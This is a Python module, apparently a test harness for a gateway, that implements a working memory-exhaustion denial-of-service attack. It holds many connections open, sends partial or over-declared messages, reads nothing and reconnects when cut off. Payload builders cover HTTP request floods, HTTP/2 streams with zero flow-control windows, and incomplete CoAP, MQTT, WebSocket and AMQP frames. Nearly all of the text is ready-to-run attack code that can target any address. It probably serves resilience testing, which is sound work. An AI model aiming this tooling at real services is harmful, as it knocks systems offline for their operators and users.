"""Who wants the gateway's memory: many connections that send a part of something, or ask for much and read nothing."""

import contextlib
import multiprocessing
import select
import socket
import time
import warnings

import h2.config
import h2.connection
import h2.settings

# How soon a place of an attack is taken again that was given up.
AGAIN_S = 0.2


class Attack:
    """`count` connections to an address; each sends the pieces that `speak` gives for its number, and reads nothing.
    Who is cut off comes again. It runs in a process of its own until it is stopped."""

    def __init__(self, address, count, speak):
        self.address, self.count, self.speak = address, count, speak
        self.stopped = multiprocessing.Event()
        self.opened = multiprocessing.Value("l", 0)
        self.cut = multiprocessing.Value("l", 0)
        self.process = multiprocessing.get_context("fork").Process(target=self._run, daemon=True)

    def __enter__(self):
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", DeprecationWarning)
            self.process.start()
        return self

    def __exit__(self, *_):
        self.stopped.set()
        self.process.join(20)
        self.process.kill()

    def _run(self):
        places = {}
        free = list(range(self.count))
        while not self.stopped.is_set():
            began = time.monotonic()
            while free and time.monotonic() < began + AGAIN_S and self._open(places, free[-1]):
                free.pop()
            self._turn(places, free)

    def _open(self, places, number):
        with contextlib.suppress(OSError):
            place = socket.create_connection(self.address, timeout=5)
            place.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            place.setblocking(False)
            places[place] = (number, list(self.speak(number))[::-1])
            self.opened.value += 1
            return True
        return False

    def _turn(self, places, free):
        """Sends what can be sent; notes who was cut off."""
        waiting = dict(places)
        poll = select.poll()
        by_file = {}
        for place, (_, left) in waiting.items():
            by_file[place.fileno()] = place
            poll.register(place, select.POLLRDHUP | (select.POLLOUT if left else 0))
        began = time.monotonic()
        for file, event in poll.poll(AGAIN_S * 1000):
            place = by_file[file]
            number, left = waiting[place]
            over = event & (select.POLLRDHUP | select.POLLHUP | select.POLLERR)
            if not over and left:
                try:
                    sent = place.send(left[-1])
                    left[-1] = left[-1][sent:]
                    if not left[-1]:
                        left.pop()
                except BlockingIOError:
                    pass
                except OSError:
                    over = True
            if over:
                place.close()
                del places[place]
                free.append(number)
                self.cut.value += 1
        rest = AGAIN_S - (time.monotonic() - began)
        if rest > 0 and not any(left for _, left in waiting.values()):
            self.stopped.wait(rest)


def asks(path, method="GET", body=b"", fields="", times=1):
    """The same request so many times."""
    length = f"Content-Length: {len(body)}\r\n" if body else ""
    one = f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{fields}{length}\r\n".encode() + body
    return lambda _: [one * times]


def asks_by_http2(path, streams):
    """So many streams that ask and leave no window for an answer."""

    def speak(_):
        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        connection.local_settings = h2.settings.Settings(
            client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
        )
        connection.initiate_connection()
        connection.remote_settings.acknowledge()
        for number in range(streams):
            connection.send_headers(
                1 + 2 * number,
                [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", "127.0.0.1")],
                end_stream=True,
            )
        return [connection.data_to_send()]

    return speak


def coap_part(declared, sent):
    """A CSM, and a part of a POST that says to be longer (RFC 8323, 3.2)."""
    csm = bytes([0x00, 0xE1])
    head = bytes([0xF0]) + (declared - 65805).to_bytes(4, "big") + bytes([0x02])
    return lambda _: [csm, head + b"\xb4live\x01a\xff", b"x" * sent]


def mqtt_part(declared, sent, connected=True):
    """A part of a PUBLISH behind a CONNECT, or of a CONNECT."""

    def length(number):
        out = bytearray()
        while True:
            number, digit = divmod(number, 128)
            out.append(digit | (0x80 if number else 0))
            if not number:
                return bytes(out)

    def speak(number):
        name = f"attack{number}".encode()
        body = b"\x00\x04MQTT\x04\x02\x00\x00" + len(name).to_bytes(2, "big") + name
        connect = b"\x10" + length(len(body)) + body
        if not connected:
            return [b"\x10" + length(declared), b"\x00\x04MQTT\x04\x02\x00\x00\x00\x01a" + b"x" * sent]
        return [connect, b"\x30" + length(declared) + b"\x00\x01a", b"x" * sent]

    return speak


def websocket_part(path, declared, sent):
    """A handshake, and a part of a message that says to be longer (RFC 6455, 5.2)."""
    head = (
        f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    ).encode()
    frame = bytes([0x82, 0xFF]) + declared.to_bytes(8, "big") + bytes(4)
    return lambda _: [head, frame, b"x" * sent]


def amqp_part(message, parts):
    """SASL anonymous, one link, and a delivery that is never whole (AMQP 1.0, 2.6.14)."""

    def frame(body, kind=0, channel=0):
        return (len(body) + 8).to_bytes(4, "big") + bytes([2, kind]) + channel.to_bytes(2, "big") + body

    def described(code, fields):
        inner = b"".join(fields)
        return (b"\x00\x53" + bytes([code]) + b"\xd0" + (len(inner) + 4).to_bytes(4, "big")
                + len(fields).to_bytes(4, "big") + inner)

    def text(value):
        return b"\xa1" + bytes([len(value)]) + value

    def symbol(value):
        return b"\xa3" + bytes([len(value)]) + value

    null, no = b"\x40", b"\x42"
    uint = lambda number: b"\x70" + number.to_bytes(4, "big")
    target = described(0x29, [text(b"attack/a")])
    source = described(0x28, [text(b"a")])
    sasl = b"AMQP\x03\x01\x00\x00" + frame(described(0x41, [symbol(b"ANONYMOUS")]), kind=1)
    opened = b"AMQP\x00\x01\x00\x00" + frame(described(0x10, [text(b"attack"), text(b"localhost")]))
    begun = frame(described(0x11, [null, uint(0), uint(1000), uint(1000)]))
    attached = frame(described(0x12, [text(b"l"), uint(0), no, null, null, source, target, null, null, uint(0)]))
    tag = b"\xa0\x01t"
    first = described(0x14, [uint(0), uint(0), tag, uint(0), no, b"\x41"])
    more = described(0x14, [uint(0), null, null, null, null, b"\x41"])
    payload = b"x" * 60_000
    return lambda _: [sasl, opened, begun, attached, frame(first + payload)] + [frame(more + payload)] * parts
